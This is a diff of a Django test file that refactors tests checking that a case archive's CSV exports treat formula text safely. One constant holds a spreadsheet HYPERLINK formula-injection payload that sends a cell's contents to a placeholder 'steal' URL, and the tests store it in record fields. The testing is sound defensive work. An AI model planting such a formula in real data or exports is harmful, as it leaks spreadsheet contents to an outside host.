@@ -13,18 +13,8 @@ import pytest
 from django.urls import reverse
 
 from cases.browse import csv_safety
-from cases.models import (
-    CaseStudy,
-    Event,
-    GlossaryTerm,
-    Interview,
-    Organisation,
-    Person,
-    Place,
-    Quote,
-    Source,
-)
-from tests.public_urls import busiest
+from cases.models import CaseStudy, Quote
+from tests.public_urls import LIST_MODELS, busiest
 from tests.test_figures import add_figure
 
 pytestmark = pytest.mark.django_db
@@ -33,15 +23,15 @@ FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Open the source")'
 
 # Each list's export, and a text column of it that a record's author writes.
 EXPORTED_TEXT = {
-    "/cases/": (CaseStudy, "title"),
-    "/people/": (Person, "description"),
-    "/organisations/": (Organisation, "name"),
-    "/events/": (Event, "title"),
-    "/interviews/": (Interview, "title"),
-    "/quotes/": (Quote, "text"),
-    "/sources/": (Source, "title"),
-    "/places/": (Place, "name"),
-    "/glossary/": (GlossaryTerm, "term"),
+    "/cases/": "title",
+    "/people/": "description",
+    "/organisations/": "name",
+    "/events/": "title",
+    "/interviews/": "title",
+    "/quotes/": "text",
+    "/sources/": "title",
+    "/places/": "name",
+    "/glossary/": "term",
 }
 
 
@@ -54,7 +44,7 @@ def export_rows(client, list_path) -> list[dict]:
 
 @pytest.mark.parametrize("list_path", EXPORTED_TEXT)
 def test_a_record_whose_text_is_a_formula_is_exported_as_text(client, list_path):
-    model, column = EXPORTED_TEXT[list_path]
+    model, column = LIST_MODELS[list_path], EXPORTED_TEXT[list_path]
     record = busiest(model)
     # ``update``: the text as an archivist could type it, without anything save() derives.
     model.objects.filter(pk=record.pk).update(**{column: FORMULA})
